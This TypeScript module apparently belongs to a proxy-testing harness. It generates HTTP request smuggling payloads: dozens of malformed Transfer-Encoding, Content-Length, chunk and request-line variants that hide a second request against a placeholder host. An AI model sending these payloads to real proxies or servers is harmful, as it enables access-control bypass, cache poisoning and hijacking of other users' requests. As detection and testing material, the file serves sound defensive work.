/** Bytes in which a second request may hide behind a first one. */
export interface Attack {
  name: string;
  bytes: Buffer;
}

/** The host that the proxies serve. */
export const HOST = "lavra.exemplo";

/** What the hidden request asks for; nobody else does. */
export const hiddenPath = (id: string) => `/escondido-${id}`;
/** What the open request asks for. */
export const openPath = (id: string) => `/aberto-${id}`;

const hidden = (id: string, more = "") => `GET ${hiddenPath(id)} HTTP/1.1\r\nHost: ${HOST}\r\n${more}\r\n`;

/** A request with these header lines, as written, and this body. */
function post(id: string, lines: readonly string[], body: string): string {
  return [`POST ${openPath(id)} HTTP/1.1`, `Host: ${HOST}`, ...lines, "", body].join("\r\n");
}

/** Ends as chunks; by its length it holds the hidden request. */
const afterChunks = (id: string) => `0\r\n\r\n${hidden(id)}`;
/** By the length `shortOf` it ends before the hidden request; as chunks it holds it. */
function inChunk(id: string): string {
  const request = hidden(id);
  return `${request.length.toString(16)}\r\n${request}\r\n0\r\n\r\n`;
}
const shortOf = (body: string) => body.indexOf("\r\n") + 2;

/** Ways to write the coding that a lenient parser takes for `chunked` and a strict one does not, or the other way round. */
const CODINGS: readonly string[] = [
  "Transfer-Encoding: chunked",
  "Transfer-Encoding: xchunked",
  "Transfer-Encoding : chunked",
  " Transfer-Encoding: chunked",
  "Transfer-Encoding:\tchunked",
  "Transfer-Encoding:\x0bchunked",
  "Transfer-Encoding: \x00chunked",
  "Transfer-Encoding: chunked, identity",
  "Transfer-Encoding: identity, chunked",
  "Transfer-Encoding: chunked, chunked",
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: chunked;q=1",
  "Transfer-Encoding: CHUNKED",
  "Transfer-Encoding: chunked ,",
  "Transfer-Encoding:\r\n chunked",
  "Transfer-Encoding: x\r\n chunked",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
  "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding: gzip, chunked",
  "Transfer_Encoding: chunked",
  "X: y\nTransfer-Encoding: chunked",
  "X: y\rTransfer-Encoding: chunked",
  "X: y\r\n\rTransfer-Encoding: chunked",
  "Connection: Content-Length\r\nTransfer-Encoding: chunked",
  "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
];

/** Ways to write a length; `%` stands for that of the body. */
const LENGTHS: readonly string[] = [
  "Content-Length: 0\r\nContent-Length: %",
  "Content-Length: %\r\nContent-Length: 0",
  "Content-Length: 0, %",
  "Content-Length: %, 0",
  "Content-Length: +%",
  "Content-Length: -%",
  "Content-Length: 0%",
  "Content-Length: 0x%",
  "Content-Length: % 0",
  "Content-Length: %.0",
  "Content-Length : %",
  " Content-Length: %",
  "Content-Length:\r\n %",
  "Content-Length: 0\r\n %",
  "Content-Length:\x0b%",
  "Content-Length\x00: %",
  "X: y\nContent-Length: %",
  "X: y\rContent-Length: %",
  "Content_Length: %",
  "Connection: Content-Length\r\nContent-Length: %",
  "Connection: close, Content-Length\r\nContent-Length: %",
  "Expect: 100-continue\r\nContent-Length: %",
  "Expect: 200-ok\r\nContent-Length: %",
  "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nConnection: Upgrade, HTTP2-Settings\r\nContent-Length: %",
  "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nContent-Length: %",
  "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 777\r\nContent-Length: %",
];

/** Chunks that parsers end at different places. `hidden` stands for the request that hides. */
const CHUNKS: Readonly<Record<string, (hidden: string) => string>> = {
  "a bare LF after the size": (request) => `5\nhello\r\n0\r\n\r\n${request}`,
  "bare LFs only": (request) => `5\nhello\n0\n\n${request}`,
  "no line break after the data": (request) => `5\r\nhello0\r\n\r\n${request}`,
  "an extension with a bare LF": (request) =>
    `2;\nxx\r\n${(request.length + 7).toString(16)}\r\n0\r\n\r\n${request}\r\n0\r\n\r\n`,
  "an extension with a bare CR": (request) => `2;a\rxx\r\n0\r\n\r\n${request}`,
  "a size in 0x": (request) => `0x5\r\nhello\r\n0\r\n\r\n${request}`,
  "a size with a sign": (request) => `+5\r\nhello\r\n0\r\n\r\n${request}`,
  "a size below zero": (request) => `-1\r\nhello\r\n0\r\n\r\n${request}`,
  "a size with a space before": (request) => ` 5\r\nhello\r\n0\r\n\r\n${request}`,
  "a size with a space after": (request) => `5 \r\nhello\r\n0\r\n\r\n${request}`,
  "a size with an underscore": (request) => `0_5\r\nhello\r\n0\r\n\r\n${request}`,
  "a size of more than 64 bits": (request) => `10000000000000000\r\n\r\n0\r\n\r\n${request}`,
  "a long zero": (request) => `0000000000000000000\r\n\r\n${request}`,
  "a length in the trailer": (request) => `0\r\nContent-Length: 9\r\n\r\n${request}`,
  "a coding in the trailer": (request) => `0\r\nTransfer-Encoding: chunked\r\n\r\n${request}`,
  "a trailer without an end": (request) => `0\r\nX: y\n\n${request}`,
  "a last line break that is missing": (request) => `0\r\n${request}`,
};

/** First lines that proxies read in different ways. */
const FIRST_LINES: readonly string[] = [
  "POST http://outra.exemplo% HTTP/1.1",
  `POST http://${HOST}% HTTP/1.1`,
  "POST // HTTP/1.1",
  "POST % HTTP/1.0",
  "POST % HTTP/1.1 HTTP/1.1",
  "POST % HTTP/1.2",
  "POST % HTTP/2.0",
  "POST % HTTP/11",
  "POST %\tHTTP/1.1",
  "POST\t% HTTP/1.1",
  "POST %",
  " POST % HTTP/1.1",
  "\r\n\r\nPOST % HTTP/1.1",
  "post % HTTP/1.1",
  "GET % HTTP/1.1",
  "HEAD % HTTP/1.1",
  "OPTIONS * HTTP/1.1",
  `CONNECT ${HOST}:443 HTTP/1.1`,
  "TRACE % HTTP/1.1",
  "POST %\x00 HTTP/1.1",
  "POST %\x0b HTTP/1.1",
];

/** Every attack, each with paths of its own. */
export function allAttacks(): Attack[] {
  const attacks: Attack[] = [];
  const add = (name: string, bytesOf: (id: string) => string) => {
    const id = String(attacks.length);
    attacks.push({ name, bytes: Buffer.from(bytesOf(id), "latin1") });
  };
  for (const coding of CODINGS) {
    add(`length and ${JSON.stringify(coding)}, hidden behind the chunks`, (id) => {
      const body = afterChunks(id);
      return post(id, [`Content-Length: ${body.length}`, coding], body);
    });
    add(`${JSON.stringify(coding)} and a length that ends in the chunks`, (id) => {
      const body = inChunk(id);
      return post(id, [coding, `Content-Length: ${shortOf(body)}`], body);
    });
    add(`${JSON.stringify(coding)} alone, hidden in a chunk`, (id) => post(id, [coding], inChunk(id)));
  }
  for (const length of LENGTHS) {
    add(`${JSON.stringify(length)}`, (id) => {
      const body = hidden(id);
      return post(id, [length.replaceAll("%", String(body.length))], body);
    });
  }
  for (const [name, chunks] of Object.entries(CHUNKS)) {
    add(`chunks with ${name}`, (id) => post(id, ["Transfer-Encoding: chunked"], chunks(hidden(id))));
  }
  for (const line of FIRST_LINES) {
    for (const version of ["", "Connection: keep-alive\r\n"]) {
      add(`${JSON.stringify(line)} ${version && "kept alive "}with a body`, (id) => {
        const body = hidden(id);
        const first = line.replaceAll("%", openPath(id));
        return `${first}\r\nHost: ${HOST}\r\n${version}Content-Length: ${body.length}\r\n\r\n${body}`;
      });
    }
    add(`${JSON.stringify(line)} with chunks and a length`, (id) => {
      const body = afterChunks(id);
      const first = line.replaceAll("%", openPath(id));
      return `${first}\r\nHost: ${HOST}\r\nConnection: keep-alive\r\nContent-Length: ${body.length}\r\nTransfer-Encoding: chunked\r\n\r\n${body}`;
    });
  }
  add("bare LFs", (id) => {
    const body = hidden(id).replaceAll("\r\n", "\n");
    return `POST ${openPath(id)} HTTP/1.1\nHost: ${HOST}\nContent-Length: ${body.length}\n\n${body}`;
  });
  add(
    "a head that a bare LF ends",
    (id) => `POST ${openPath(id)} HTTP/1.1\r\nHost: ${HOST}\r\nContent-Length: 0\r\n\n${hidden(id)}`,
  );
  add("a head that a bare CR ends", (id) => `POST ${openPath(id)} HTTP/1.1\r\nHost: ${HOST}\r\nX: y\r\r${hidden(id)}`);
  add("two hosts", (id) => post(id, ["Host: outra.exemplo", `Content-Length: ${hidden(id).length}`], hidden(id)));
  add("a line of a header folded into the hidden request", (id) => post(id, [`X: y\r\n ${hidden(id).trim()}`], ""));
  return attacks;
}
